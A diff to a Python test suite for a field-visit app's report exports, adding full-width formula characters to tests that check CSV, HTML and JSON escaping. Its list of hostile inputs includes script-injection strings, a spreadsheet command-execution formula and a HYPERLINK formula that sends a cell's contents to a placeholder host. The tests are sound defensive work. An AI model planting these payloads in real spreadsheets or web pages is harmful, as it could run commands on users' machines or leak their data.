@@ -24,7 +24,7 @@ from tests.paths import CASES as CASES_DIR
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from fieldvisit.adapters.escape import FORMULA_START, csv_cell, html_text, json_for_script
+from fieldvisit.adapters.escape import csv_cell, formula_like, html_text, json_for_script
 from fieldvisit.adapters.maps.page import build_page
 from fieldvisit.adapters.report_files import report_html, write_csv, write_xlsx
 from fieldvisit.services.reports import DAY_COLUMNS, VISIT_COLUMNS
@@ -33,8 +33,9 @@ CASES = CASES_DIR
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
 NASTY = ["<!--<script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\u2028\u2029",
          "=HYPERLINK(\"http://x.invalid/?d=\"&A1,\"open\")", "@SUM(1+1)", "+1+1", "-2+3", "\tTAB", "\rCR",
-         "=cmd|' /C calc'!A0", "#N/A", "&lt;", "]]>", "'quoted'", '"dq"', "`${x}`"]
-hostile = st.one_of(st.sampled_from(NASTY), st.text(alphabet=st.sampled_from(list("<>&=@+-\t\r!/'\"sx\u2028")),
+         "=cmd|' /C calc'!A0", "#N/A", "&lt;", "]]>", "'quoted'", '"dq"', "`${x}`",
+         "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\ufe66SUM(1)", "\n=1+1"]  # full-width forms: BRK14b A
+hostile = st.one_of(st.sampled_from(NASTY), st.text(alphabet=st.sampled_from(list("<>&=@+-\t\r!/'\"sx\u2028\uff1d\uff0b\uff0d\uff20")),
                                                     min_size=1, max_size=12))
 
 
@@ -75,6 +76,38 @@ def test_case_06_report_cells_are_text(tmp_path):
     assert rows[0]["collector"] == "'@SUM(1+1)"
 
 
+def test_full_width_formulas_and_a_tab_comment_in_the_csv_report(sqlite_app, tmp_path):
+    """BRK14b A: full-width ＝ ＋ － ＠ at a cell's start were written raw; a review comment's
+    leading TAB was stripped at input (the text changed). Now: kept as written, neutralised on export."""
+    import uuid
+
+    from fieldvisit.adapters import crypto
+    from fieldvisit.services.identities import init_identity
+    from fieldvisit.services.reports import team_report
+    from fieldvisit.services.sync import review_visit
+    from fieldvisit.services.visits import record_visits
+
+    ids = ["\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)"]
+    rows = "".join(f"{cid},N{i},40.42,-3.7,ES,Europe/Madrid,100.00,EUR,10,\uff1dFull\n" for i, cid in enumerate(ids))
+    file = tmp_path / "c.csv"
+    file.write_text("case_id,name,lat,lon,country,timezone,balance,currency,days_past_due,collector\n" + rows,
+                    encoding="utf-8")
+    r = fv("cases", "import", str(file), "--as-of", "2026-11-23", db=sqlite_app.url)
+    assert r.returncode == 0, r.stderr
+    visits = [{"visit_id": str(uuid.uuid4()), "case_id": cid, "outcome": "not_home", "person_met": "nobody",
+               "arrived_at": "2026-11-24T10:00:00+01:00", "left_at": "2026-11-24T10:20:00+01:00"} for cid in ids]
+    record_visits(sqlite_app.uow(), visits, rules=sqlite_app.rules())
+    init_identity(sqlite_app.uow(), crypto, role="supervisor", name="Office")
+    done = review_visit(sqlite_app.uow(), visits[0]["visit_id"], "has_issues", "\t-2+3")
+    assert done["comment"] == "\t-2+3"  # as written
+    report = team_report(sqlite_app.uow(), date(2026, 11, 20), date(2026, 11, 30), as_of=date(2026, 11, 24))
+    write_csv(tmp_path / "r.csv", report)
+    got = list(csv.DictReader(io.StringIO((tmp_path / "r.csv").read_text(encoding="utf-8-sig"), newline="")))
+    assert sorted(row["case_id"] for row in got) == sorted("'" + cid for cid in ids)
+    assert {row["collector"] for row in got} == {"'\uff1dFull"}
+    assert [row["review_comment"] for row in got if row["review_comment"]] == ["'\t-2+3"]
+
+
 # --- one function per destination ------------------------------------------------------------
 
 @given(st.lists(hostile, min_size=1, max_size=5))
@@ -89,7 +122,7 @@ def test_json_for_script_cannot_leave_the_script(values):
 @settings(max_examples=200, deadline=None)
 def test_csv_and_html_cells(value):
     cell = csv_cell(value)
-    if value.startswith(FORMULA_START) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", value):
+    if formula_like(value) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", value):
         assert cell == "'" + value
     assert "<" not in html_text(value) and ">" not in html_text(value)
 
@@ -140,7 +173,7 @@ def test_every_export_keeps_hostile_text_as_text(_qt, tmp_path_factory, value):
     write_csv(tmp / "r.csv", _report(value))
     for row in csv.reader(io.StringIO((tmp / "r.csv").read_text(encoding="utf-8-sig"), newline="")):
         for cell in row:
-            assert not cell.startswith(FORMULA_START) or re.fullmatch(r"[+-]?\d+(\.\d+)?", cell), cell
+            assert not formula_like(cell) or re.fullmatch(r"[+-]?\d+(\.\d+)?", cell), cell
     # PDF report HTML: no element the text did not come from
     markup = report_html(_report(value), value)
     assert "<script" not in markup.lower() and "<img" not in markup.lower() and "<!--" not in markup
